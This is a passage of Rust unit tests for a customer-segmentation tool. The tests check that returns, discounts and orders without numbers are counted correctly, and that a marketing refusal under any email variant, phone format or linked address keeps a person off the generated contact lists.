/// Returns under an invoice number used again a year later: each goes back against the order it
/// followed, also when the returns list names no buyer and another customer had the number the
/// year before (and the shop's export lists the same return under its buyer).
#[test]
fn returns_under_a_number_used_again_go_to_the_order_they_followed() {
    let dir = tempfile::tempdir().unwrap();
    let shop = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order ID,Customer ID,Order Date,Product ID,Quantity,Line Total\n\
         57,c1,2023-01-10,Tea,1,100\n\
         57,c1,2023-01-20,Tea,-1,-30\n\
         57,c1,2024-01-10,Cake,1,80\n\
         57,c1,2024-01-15,Cake,-1,-70\n\
         58,cA,2023-01-10,T1,1,100\n\
         58,cB,2024-01-10,T1,1,100\n\
         58,cB,2024-01-20,T1,-1,-100\n\
         60,c2,2024-01-07,Tea,1,30\n\
         61,c3,2024-01-08,Tea,1,30\n",
    );
    let returns = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "returns.csv",
        "Order ID,Return Date,Product ID,Quantity,Line Total\n58,2024-01-20,T1,-1,-100\n",
    );
    let out = dir.path().join("out");
    let mut params = SegmentParams::new(date("2024-02-01"));
    params.k = Some(2);
    params.min_group_size = 1;
    run(
        &curated_inputs([shop, returns].concat()),
        &params.check().unwrap(),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let c = |id: &str, col: &str| rows[id][col].clone();
    assert_eq!(
        (c("c1", "monetary"), c("c1", "return_rate")),
        ("80.00".into(), "0.556".into())
    );
    assert_eq!(
        (c("cB", "monetary"), c("cB", "return_rate")),
        ("0.00".into(), "1.000".into())
    );
    assert_eq!(
        (c("cA", "monetary"), c("cA", "return_rate")),
        ("100.00".into(), "0.000".into())
    );
}

/// A till's or an ERP's discount on an order, a "Discount" or «تخفیف» line at a negative price:
/// the order is worth less, and nothing came back. It was read as a return, so a coupon of a
/// third of the order put its buyer among the frequent returners.
#[test]
fn a_discount_line_lowers_its_order_and_is_no_return() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "till.csv",
        "Order ID,Order Date,Customer ID,Product,Quantity,Unit Price\n\
         1,2024-06-01,C-1,Teapot,1,100\n\
         1,2024-06-01,C-1,Discount 30%,1,-30\n\
         2,2024-06-02,C-2,Teapot,1,100\n\
         3,2024-06-03,C-3,Teapot,1,100\n\
         3,2024-06-03,C-3,Teapot,1,-100\n\
         4,2024-06-04,C-4,Tea,2,10\n\
         5,2024-06-05,C-5,کتری,1,200000\n\
         5,2024-06-05,C-5,کد تخفیف یلدا,1,-20000\n\
         6,2024-06-06,C-6,Tea,1,50\n\
         7,2024-06-07,C-6,Coupon,1,-10\n\
         8,2024-06-08,C-7,Voucher 50 EUR,1,50\n\
         9,2024-06-09,C-7,Voucher 50 EUR,1,-50\n",
    );
    // A voucher's negative price is a discount; without a price, such a line is a return.
    let priced = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "priced.csv",
        "Order ID,Order Date,Customer ID,Product,Quantity,Unit Price,Line Total\n\
         20,2024-06-10,C-8,Teapot,1,100,100\n\
         20,2024-06-10,C-8,Voucher WELCOME,1,-10,-10\n\
         21,2024-06-11,C-9,Teapot,1,100,100\n\
         21,2024-06-11,C-9,Gutschein SOMMER10,1,-10,-10\n",
    );
    let sales = [sales, priced].concat();
    let out = segment_curated(dir.path(), sales);
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let c = |id: &str, col: &str| customers[id][col].clone();
    assert_eq!(c("C-1", "monetary"), "70.00");
    assert_eq!(c("C-1", "avg_order_value"), "70.00");
    assert_eq!(c("C-1", "return_rate"), "0.000");
    assert_eq!(c("C-1", "items_per_order"), "1.00");
    assert_eq!(c("C-1", "multi_item_share"), "0.000");
    assert_eq!(c("C-1", "distinct_products"), "1");
    assert_eq!(c("C-5", "monetary"), "180000.00");
    assert_eq!(c("C-5", "return_rate"), "0.000");
    // A negative line of a product is still its return, a voucher one too.
    assert_eq!(c("C-3", "return_rate"), "1.000");
    assert_eq!(c("C-7", "return_rate"), "1.000");
    // A coupon line alone is no order: the money it took off came back.
    assert_eq!(c("C-6", "frequency"), "1");
    assert_eq!(c("C-6", "monetary"), "40.00");
    for id in ["C-8", "C-9"] {
        assert_eq!(
            (c(id, "monetary"), c(id, "return_rate")),
            ("90.00".into(), "0.000".into()),
            "{id}"
        );
    }
}

/// GA4 keys its events by `user_id`, which a shop sets to the customer's email: the contact is
/// the customer with that email, listed once, not also as a lead of its own.
#[test]
fn a_contact_keyed_by_its_email_alone_is_the_customer_with_it() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers_with_emails(dir.path());
    let ga4 = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "ga4.csv",
        "event_date,event_timestamp,event_name,user_pseudo_id,user_id,page_location\n\
         20240610,1718013600000000,file_download,1.1,U6@x.example,https://shop.example/cat.pdf\n",
    );
    let out = segment_curated(dir.path(), [sales, ga4].concat());
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    let ids: Vec<&str> = ideal.iter().map(|r| r["id"].as_str()).collect();
    assert!(!ids.iter().any(|id| id.contains('@')), "{ids:?}");
    let leads = read_csv(&out.join("lead_scores.csv"));
    assert_eq!(leads.len(), 1);
    assert_eq!(leads[0]["email"], "u6@x.example");
}

/// A sheet kept by hand gives no order numbers: a customer's lines of one time are one order
/// (three products bought together), lines of other times other orders. Each line was an order
/// of its own, so a buyer of four baskets counted as a frequent buyer of eleven items.
#[test]
fn lines_without_an_order_number_are_one_order_per_time() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("", "c1", "2024-06-01 10:00", "p1", 1.0, 10.0),
        l("", "c1", "2024-06-01 10:00", "p2", 2.0, 20.0),
        l("", "c1", "2024-06-01 10:00", "p3", 1.0, 30.0),
        l("", "c1", "2024-06-01 18:00", "p1", 1.0, 10.0),
        l("", "c9", "2024-06-01 10:00", "p1", 1.0, 10.0),
        // Refunded by its status: taken back from its own order, the 06-03 one.
        l("", "c1", "2024-06-03 10:00", "p4", 1.0, 40.0).with_status("refunded"),
        l("", "c1", "2024-06-03 10:00", "p5", 1.0, 60.0),
    ];
    lines.extend(four_others("2024-06-02"));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let c = |id: &str, col: &str| rows[id][col].clone();
    assert_eq!(c("c1", "frequency"), "3");
    assert_eq!(c("c1", "items_per_order"), "2.33", "(4 + 1 + 2) / 3");
    assert_eq!(c("c1", "multi_item_share"), "0.667");
    assert_eq!(c("c1", "monetary"), "130.00", "170 bought, 40 back");
    assert_eq!(c("c9", "frequency"), "1");
}

/// An American shop's orders give the phone as typed, without its country (`tel:4155552106`);
/// its SMS service logs the STOP from `+14155552106`. The refusal holds for the customer,
/// though the two keys stay apart.
#[test]
fn a_refusal_from_a_number_with_its_country_holds_for_the_number_without() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-09-01,106,c106@x.com,(415) 555-2106,900\n\
         2,2023-10-01,107,c107@x.com,(415) 555-2107,900\n\
         5,2024-06-20,40,c40@x.com,,10\n\
         6,2024-06-21,41,c41@x.com,,20\n\
         7,2024-06-22,42,c42@x.com,,30\n",
    );
    let twilio = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "twilio.csv",
        "From,To,Body,Status,SentDate,Direction\n\
         +14155552106,+18005550199,STOP,received,2024-01-03 10:00:00,inbound\n",
    );
    let listed = |out: &Path| -> Vec<String> {
        let ideal = read_csv(&out.join("ideal_customers.csv"));
        let mut ids: Vec<String> = ideal.iter().map(|r| r["id"].clone()).collect();
        ids.sort();
        ids
    };
    let without = segment_curated(&dir.path().join("without"), sales.clone());
    assert!(listed(&without).contains(&"106".to_string()));
    let out = segment_curated(dir.path(), [sales.clone(), twilio].concat());
    assert!(!listed(&out).contains(&"106".to_string()));
    assert!(listed(&out).contains(&"107".to_string()));
    assert_off_lists(&out, &["c106@", "5552106"]);
    // The other way round: the customer list says no, and the SMS log's contact (a lead by its
    // replies) is the same number with its country.
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Phone,Accepts Marketing\n107,(415) 555-2107,no\n",
    );
    let replies = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "replies.csv",
        "Phone,Event,Timestamp\n\
         +14155552107,Form submitted,2024-06-01 10:00\n\
         +14155552107,Whitepaper download,2024-06-02 10:00\n",
    );
    let out = segment_curated(&dir.path().join("crm"), [sales.clone(), crm, replies].concat());
    assert_off_lists(&out, &["c107@", "5552107"]);
    // An SMS list keyed by the number with its country refuses for the customer whose orders
    // gave it without.
    let sms_list = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "sms_list.csv",
        "Phone,SMS Consent\n+1 415 555 2106,no\n",
    );
    let out = segment_curated(&dir.path().join("list"), [sales, sms_list].concat());
    assert!(!listed(&out).contains(&"106".to_string()));
    assert_off_lists(&out, &["c106@", "5552106"]);
}

/// A customers-dataset record signed up after the run date (a sign-up the day after, ticking "no
/// marketing") is no customer of that run, but its refusal keeps its lead off the lists, by id
/// and by address: a multi-night review found such people in `lead_scores.csv` and
/// `ideal_customers.csv` with their email.
#[test]
fn a_refusal_signed_up_after_the_run_date_still_keeps_the_lead_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Signup Date,Accepts Marketing\n\
         L-777,ann@shop-test.example,2024-11-15,no\n\
         L-780,bea@shop-test.example,2024-11-15,no\n\
         L-779,dan@shop-test.example,2024-11-15,yes\n",
    );
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "web.csv",
        "Contact ID,Email,Activity Type,Timestamp,Job Title\n\
         L-777,ann@shop-test.example,Form Submission,2024-06-01 10:00,CEO\n\
         W-1,bea@shop-test.example,Form Submission,2024-06-01 10:00,CEO\n\
         L-779,dan@shop-test.example,Form Submission,2024-06-01 10:00,CEO\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, activity].concat());
    assert_off_lists(&out, &["L-777", "ann@", "W-1", "bea@"]);
    let leads = read_csv(&out.join("lead_scores.csv"));
    assert!(leads.iter().any(|r| r["contact_id"] == "L-779"), "{leads:?}");
    // Not a customer of the run: none of the three is in customers.csv.
    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert!(
        ["L-777", "L-779", "L-780"]
            .iter()
            .all(|id| !customers.contains_key(*id))
    );
}

/// A refusal from one address of an inbox holds for every address of it (`ann@x.com`,
/// `ann+shop@x.com`, `ANN+news@x.com`), whichever file says it: a customer list's opt-out or
/// consent column and a checkout's `no` alike, as an activity unsubscribe does.
#[test]
fn a_refusal_in_the_customer_data_holds_for_every_tag_of_the_inbox() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "orders_export.csv",
        "Name,Email,Financial Status,Accepts Marketing,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku\n\
         #1001,ann@x.com,paid,,2023-09-01 10:00:00 +0000,1,Mug,40,M-1\n\
         #1002,ann+shop@x.com,paid,,2023-09-02 10:00:00 +0000,1,Mug,40,M-1\n\
         #1003,bob+shop@x.com,paid,,2023-09-03 10:00:00 +0000,1,Mug,40,M-1\n\
         #1004,Bob@x.com,paid,,2023-09-04 10:00:00 +0000,1,Mug,40,M-1\n\
         #1005,cat@x.com,paid,no,2023-09-05 10:00:00 +0000,1,Mug,40,M-1\n\
         #1006,cat+vip@x.com,paid,yes,2023-09-06 10:00:00 +0000,1,Mug,40,M-1\n\
         #1007,dan@x.com,paid,yes,2023-09-07 10:00:00 +0000,1,Mug,40,M-1\n\
         #1009,e@x.com,paid,yes,2024-06-20 10:00:00 +0000,1,Tea,10,T-1\n\
         #1010,f@x.com,paid,yes,2024-06-21 10:00:00 +0000,1,Tea,12,T-1\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Email,Accepts Marketing\nann@x.com,no\nbob+shop@x.com,no\n",
    );
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "web.csv",
        "Contact ID,Email,Activity Type,Timestamp,Job Title\n\
         L-ann,ANN+news@x.com,Form Submission,2024-06-01 10:00,CEO\n\
         L-bob,bob+news@x.com,Form Submission,2024-06-01 10:00,CEO\n\
         L-cat,cat@x.com,Form Submission,2024-06-01 10:00,CEO\n\
         L-dan,dan+news@x.com,Form Submission,2024-06-01 10:00,CEO\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, activity].concat());
    // Every address of the three inboxes that refused is off every list, with its lead.
    assert_off_lists(
        &out,
        &[
            "ann@", "ann+", "bob@", "bob+", "Bob@", "cat@", "cat+", "L-ann", "L-bob", "L-cat",
        ],
    );
    let customers = by_id(read_csv(&out.join("customers.csv")));
    for id in [
        "ann@x.com",
        "ann+shop@x.com",
        "bob+shop@x.com",
        "bob@x.com",
        "cat@x.com",
        "cat+vip@x.com",
    ] {
        assert_eq!(customers[id]["marketing_consent"], "false", "{id}");
    }
    // dan's inbox refused nothing: it stays.
    let leads = read_csv(&out.join("lead_scores.csv"));
    assert!(leads.iter().any(|r| r["contact_id"] == "L-dan"), "{leads:?}");
    let winback = read_csv(&out.join("winback.csv"));
    assert!(
        winback.iter().any(|r| r["customer_id"] == "dan@x.com"),
        "{winback:?}"
    );
}

/// The lists compare addresses as consent does: an email by the inbox it delivers to
/// (`Ann@x.com`, `ann+shop@x.com`, `ann+news@x.com` are one), a number written without its
/// country by the same number with it (`(415) 555-2106`, `+1 415 555 2106`). Such an address
/// is on one row of a list, and more than two people carrying it make it shared, leads no
/// customer matches among them; a lead under a tag of a customer's inbox is that customer, no
/// holder of its own. Each row prints its own address.
#[test]
fn the_lists_compare_addresses_as_consent_does() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order Number,Order Date,Customer ID,Amount\n\
         1,2024-06-01,C-1,100\n2,2024-06-02,C-2,50\n3,2024-05-02,C-3,70\n4,2024-04-02,C-4,20\n\
         5,2024-06-03,C-5,30\n6,2024-06-04,C-6,40\n7,2024-06-05,C-7,60\n8,2024-06-06,C-8,80\n\
         9,2024-06-07,C-9,90\n10,2024-06-08,C-10,10\n\
         11,2023-09-01,A1,900\n12,2023-09-02,A2,890\n\
         13,2023-09-03,P1,880\n14,2023-09-04,P2,870\n\
         21,2023-09-05,U1,860\n22,2023-09-06,U2,850\n23,2023-09-07,U3,840\n24,2023-09-08,U4,830\n\
         25,2023-09-09,H1,820\n26,2023-09-10,H2,810\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Phone,Accepts Marketing\n\
         A1,Ann@x.com,,yes\n\
         A2,ann+shop@x.com,,yes\n\
         P1,Pat+Shop@x.com,,yes\n\
         P2,pat@x.com,,yes\n\
         U1,,(415) 555-2106,yes\n\
         U2,,+1 415 555 2106,yes\n\
         U3,,415.555.2106,yes\n\
         U4,,+14155552106,yes\n\
         H1,,(415) 555-2107,yes\n\
         H2,,+1 415 555 2107,yes\n",
    );
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "web.csv",
        "Contact ID,Email,Activity Type,Timestamp,Job Title\n\
         L-ann,ANN+news@x.com,Form Submission,2024-06-01 10:00,CEO\n\
         L-kim1,kim+a@x.com,Form Submission,2024-06-02 10:00,\n\
         L-kim2,kim+b@x.com,Form Submission,2024-06-03 10:00,\n\
         L-kim3,Kim@x.com,Form Submission,2024-06-04 10:00,\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, activity].concat());
    // Kim's inbox has three holders (leads no customer matches), the first number four: no list
    // carries them. Ann's inbox (A1 and A2: L-ann, under one of its tags, is A1), Pat's and the
    // second number are a household's: the better-ranked row carries each, under its own
    // address; the other row has nothing left and is dropped.
    let listed = winback_rows(&out);
    // (Ingest lower-cases emails; P1's is printed as its own, not as the inbox.)
    assert_eq!(
        listed,
        [
            ["A1", "ann@x.com", ""],
            ["P1", "pat+shop@x.com", ""],
            ["H1", "", "4155552107"]
        ]
    );
    let leads = read_csv(&out.join("lead_scores.csv"));
    let lead: Vec<(&str, &str)> = leads
        .iter()
        .map(|r| (r["contact_id"].as_str(), r["email"].as_str()))
        .collect();
    assert_eq!(
        lead,
        [
            ("L-ann", "ann+news@x.com"),
            ("L-kim1", ""),
            ("L-kim2", ""),
            ("L-kim3", "")
        ]
    );
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    let carried = |needle: &str| -> Vec<String> {
        ideal
            .iter()
            .filter(|r| r["email"].to_lowercase().contains(needle) || r["phone"].contains(needle))
            .map(|r| r["id"].clone())
            .collect()
    };
    assert_eq!(carried("ann"), ["A1"]);
    assert_eq!(carried("kim"), Vec::<String>::new());
    assert_eq!(carried("5552106"), Vec::<String>::new());
    assert_eq!(carried("pat"), ["P1"]);
    assert_eq!(carried("5552107"), ["H1"]);
    let counts = &read_json(&out.join("manifest.json"))["counts"];
    assert_eq!(counts["winback_dropped_no_address"], 7, "{counts:#}");
    assert_eq!(
        counts["addresses_left_out"]["winback"],
        serde_json::json!({"shared": 4, "duplicate": 3, "invalid": 0})
    );
    assert_eq!(
        counts["addresses_left_out"]["lead_scores"],
        serde_json::json!({"shared": 3, "duplicate": 0, "invalid": 0})
    );
}

/// Within one list, an address compared as consent compares it is on one row, whichever form
/// comes first; two E.164 numbers are one only when equal.
#[test]
fn a_list_carries_an_inbox_or_a_number_once_in_any_form() {
    let shared = std::collections::BTreeSet::new();
    let mut list = activation::ListAddresses::new(&shared);
    assert_eq!(list.email(Some("ann+shop@x.com")), Some("ann+shop@x.com"));
    assert_eq!(list.email(Some("ANN@x.com")), None);
    assert_eq!(list.email(Some("ann+news@x.com")), None);
    assert_eq!(list.email(Some("anna@x.com")), Some("anna@x.com"));
    assert_eq!(list.phone(Some("+14155552106")), Some("+14155552106"));
    assert_eq!(list.phone(Some("tel:4155552106")), None);
    assert_eq!(list.phone(Some("+444155552106")), Some("+444155552106"));
    assert_eq!(list.phone(Some("tel:4155552107")), Some("tel:4155552107"));
    assert_eq!(list.phone(Some("+14155552107")), None);
    assert_eq!(list.blanked.duplicate, 4);
}

/// A customer who changed their email or mobile between orders is written at the one their
/// later order gave, whichever row the export lists first.
#[test]
fn the_lists_carry_the_address_of_a_customers_later_order() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-08-01,30,old30@x.com,09121000030,900\n\
         2,2023-10-01,30,new30@x.com,09121000130,900\n\
         3,2023-10-02,31,new31@x.com,09121000131,800\n\
         4,2023-08-02,31,old31@x.com,09121000031,800\n\
         5,2024-06-20,40,c40@x.com,,10\n\
         6,2024-06-21,41,c41@x.com,,20\n\
         7,2024-06-22,42,c42@x.com,,30\n",
    );
    let out = segment_curated(dir.path(), sales);
    let listed = winback_rows(&out);
    assert_eq!(
        listed,
        [
            ["30", "new30@x.com", "+989121000130"],
            ["31", "new31@x.com", "+989121000131"]
        ]
    );
}

/// A number written without its country is keyed `tel:…` (see `values::phone`), but the lists
/// print the digits as written, for the marketing tool to dial in the shop's country; E.164
/// numbers stay as they are.
#[test]
fn lists_print_a_number_without_its_country_as_written() {
    let dir = tempfile::tempdir().unwrap();
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "crm.csv",
        "Phone,Event,Timestamp\n\
         030 1234567,Form submitted,2024-06-01 10:00\n\
         030 1234567,Whitepaper download,2024-06-02 10:00\n\
         +49 30 7654321,Form submitted,2024-06-03 10:00\n",
    );
    let sales = four_buyers(dir.path());
    let out = segment_curated(dir.path(), [activity, sales].concat());
    let leads = read_csv(&out.join("lead_scores.csv"));
    let mut contacts: Vec<(&str, &str)> = leads
        .iter()
        .map(|r| (r["contact_id"].as_str(), r["phone"].as_str()))
        .collect();
    contacts.sort();
    assert_eq!(
        contacts,
        [("+49307654321", "+49307654321"), ("tel:0301234567", "0301234567")]
    );
}

/// A customer number known under two emails and two mobiles (the orders give an old and a new
/// one) refuses under any of them, not only under the one the lists carry; a customer list's
/// address is the one the lists carry, though its file is read before the orders' links. (The
/// unsubscribe under the second email is dated after the run: lists are used now.)
#[test]
fn a_refusal_under_any_address_a_customer_had_counts() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "z_woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-09-01,14,e1@x.com,09121000014,900\n\
         2,2023-10-01,14,e2@x.com,09351000014,900\n\
         3,2023-09-02,15,f1@x.com,09121000015,800\n\
         4,2023-10-02,15,f2@x.com,09351000015,800\n\
         5,2023-09-03,2,shop2@x.com,,800\n\
         6,2023-10-03,3,shop3@x.com,,800\n\
         7,2024-06-20,40,c40@x.com,,10\n\
         8,2024-06-21,41,c41@x.com,,20\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "a_crm.csv",
        "Customer ID,Email,Marketing Consent\n2,crm2@x.com,yes\n3,crm3@x.com,yes\n",
    );
    let newsletter = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "newsletter.csv",
        "Email,Event,Timestamp\n\
         e2@x.com,unsubscribe,2024-07-05 10:00\n\
         shop2@x.com,unsubscribe,2024-01-02 11:00\n",
    );
    let sms = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sms.csv",
        "Mobile,Event,Timestamp\n09351000015,لغو11,2024-01-03 10:00\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, newsletter, sms].concat());

    let customers = by_id(read_csv(&out.join("customers.csv")));
    for (id, consent) in [("14", "false"), ("15", "false"), ("2", "false"), ("3", "true")] {
        assert_eq!(customers[id]["marketing_consent"], consent, "{id}");
    }
    let winback = read_csv(&out.join("winback.csv"));
    let listed: Vec<(&str, &str)> = winback
        .iter()
        .map(|r| (r["customer_id"].as_str(), r["email"].as_str()))
        .collect();
    assert_eq!(listed, [("3", "crm3@x.com")]);
    assert_off_lists(
        &out,
        &[
            "e1@", "e2@", "f1@", "f2@", "shop2@", "crm2@", "1000014", "1000015",
        ],
    );
}

/// Consent follows a chain of shared addresses: C1 and C2 share a mobile, C2 and C3 an email, so
/// C1's refusal holds for all three (one person, or one household, under three records).
#[test]
fn a_refusal_follows_a_chain_of_shared_addresses() {
    let dir = tempfile::tempdir().unwrap();
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Mobile,Marketing Consent\n\
         C1,e1@x.com,09121000001,no\n\
         C2,e2@x.com,09121000001,yes\n\
         C3,e2@x.com,,yes\n\
         C4,e4@x.com,09121000004,yes\n",
    );
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "erp.csv",
        "Order Number,Order Date,Customer ID,Amount\n\
         1,2023-09-01,C1,900\n\
         2,2023-09-02,C2,900\n\
         3,2023-09-03,C3,900\n\
         4,2023-09-04,C4,900\n\
         5,2024-06-20,C5,10\n\
         6,2024-06-21,C6,20\n",
    );
    let out = segment_curated(dir.path(), [crm, sales].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    for (id, consent) in [("C1", "false"), ("C2", "false"), ("C3", "false"), ("C4", "true")] {
        assert_eq!(customers[id]["marketing_consent"], consent, "{id}");
    }
    assert_off_lists(&out, &["C1", "C2", "C3", "e1@", "e2@", "1000001"]);
    let winback = read_csv(&out.join("winback.csv"));
    assert_eq!(winback.len(), 1);
    assert_eq!(winback[0]["customer_id"], "C4");
}

/// Links lead on: customer 57's orders give its email, a guest checkout gives that email with a
/// mobile, and a second shop knows the buyer by the mobile alone. All are 57's.
#[test]
fn an_address_linked_through_a_guest_checkout_is_the_customers() {
    let dir = tempfile::tempdir().unwrap();
    let woo = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-09-01,57,ali@x.com,,900\n\
         2,2023-09-20,0,ali@x.com,09121234567,900\n\
         3,2024-06-20,40,c40@x.com,,10\n\
         4,2024-06-21,41,c41@x.com,,20\n\
         5,2024-06-22,42,c42@x.com,,30\n",
    );
    let shop = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "insta.csv",
        "شماره سفارش,تاریخ,شماره موبایل,مبلغ\ni1,2023-10-05,۰۹۱۲ ۱۲۳ ۴۵۶۷,900\n",
    );
    let out = segment_curated(dir.path(), [woo, shop].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(sorted_ids(&customers), ["40", "41", "42", "57"]);
    assert_eq!(customers["57"]["frequency"], "3");
    // The lists carry the mobile the guest checkout gave.
    let winback = read_csv(&out.join("winback.csv"));
    let row = winback
        .iter()
        .find(|r| r["customer_id"] == "57")
        .expect("57 listed");
    assert_eq!(
        (row["email"].as_str(), row["phone"].as_str()),
        ("ali@x.com", "+989121234567")
    );
}

/// A mailing list's record under a customer's old email is that customer, not a prospect of its
/// own, though the customer list gives the number another email now.
#[test]
fn a_record_under_an_old_address_is_the_customers() {
    let dir = tempfile::tempdir().unwrap();
    let woo = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-08-01,3,o3@x.com,09121000003,500\n\
         2,2024-06-20,40,c40@x.com,,10\n\
         3,2024-06-21,41,c41@x.com,,20\n\
         4,2024-06-22,42,c42@x.com,,30\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email\n3,c3@x.com\n",
    );
    let list = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "ml.csv",
        "Email,Marketing Consent\no3@x.com,yes\n",
    );
    let out = segment_curated(dir.path(), [woo, crm, list].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(sorted_ids(&customers), ["3", "40", "41", "42"]);
    assert_eq!(customers["3"]["marketing_consent"], "true");
    let winback = read_csv(&out.join("winback.csv"));
    let three = winback
        .iter()
        .find(|r| r["customer_id"] == "3")
        .expect("3 listed");
    assert_eq!(
        (three["email"].as_str(), three["phone"].as_str()),
        ("c3@x.com", "+989121000003")
    );
}

/// A CRM or website export keys its contacts by its own id or by email, and its rows give the
/// mobile (`09121234567`) an Iranian shop's customer list knows the buyer by: that contact is the
/// customer, as one matched by email is. It is no `lead` of its own in ideal_customers.csv, its
/// lead_scores.csv row takes the customer's fit, and its download weighs by the customer's job
/// title. A mobile two customer numbers share names the first id (as a shared email does); a
/// contact whose mobile is a refusing customer's stays off every list; a mobile no customer has
/// leaves the contact a lead.
#[test]
fn a_contact_whose_rows_give_a_customers_mobile_is_that_customer() {
    let dir = tempfile::tempdir().unwrap();
    // Four lapsed big spenders, three recent small ones.
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order Number,Order Date,Customer ID,Amount\n\
         1,2023-09-01,C-1,900\n2,2023-10-01,C-1,900\n3,2023-09-02,C-2,800\n4,2023-10-02,C-2,800\n\
         5,2023-09-03,C-3,700\n6,2023-10-03,C-3,700\n7,2023-09-04,C-4,750\n8,2023-10-04,C-4,750\n\
         9,2024-06-20,40,10\n10,2024-06-21,41,20\n11,2024-06-22,42,30\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Mobile,Job Title,Accepts Marketing\n\
         C-1,09121234567,CEO,yes\n\
         C-2,09122222222,,no\n\
         C-3,09123333333,Intern,yes\n\
         C-4,0912 333 3333,Owner,yes\n",
    );
    let web = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "web.csv",
        "Contact ID,Email,Mobile,Event,Timestamp\n\
         CRM-7,,09121234567,Whitepaper download,2024-06-02 10:00\n\
         CRM-8,,09122222222,Form submitted,2024-06-03 10:00\n\
         CRM-9,,09129999999,Form submitted,2024-06-04 10:00\n",
    );
    let newsletter = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "newsletter.csv",
        "Email,Mobile,Event,Timestamp\nsara@x.ir,۰۹۱۲۳۳۳۳۳۳۳,Form submitted,2024-06-05 10:00\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, web, newsletter].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let fit = |id: &str| customers[id]["ideal_fit"].clone();
    assert!(!fit("C-1").is_empty(), "the fit is published");

    let leads = read_csv(&out.join("lead_scores.csv"));
    let lead = |id: &str| leads.iter().find(|r| r["contact_id"] == id).expect(id);
    let crm7 = lead("CRM-7");
    // C-1's title (a CEO's download weighs ×2) and C-1's fit, the grade's letter.
    assert_eq!(
        (
            crm7["job_title"].as_str(),
            crm7["contributions"].as_str(),
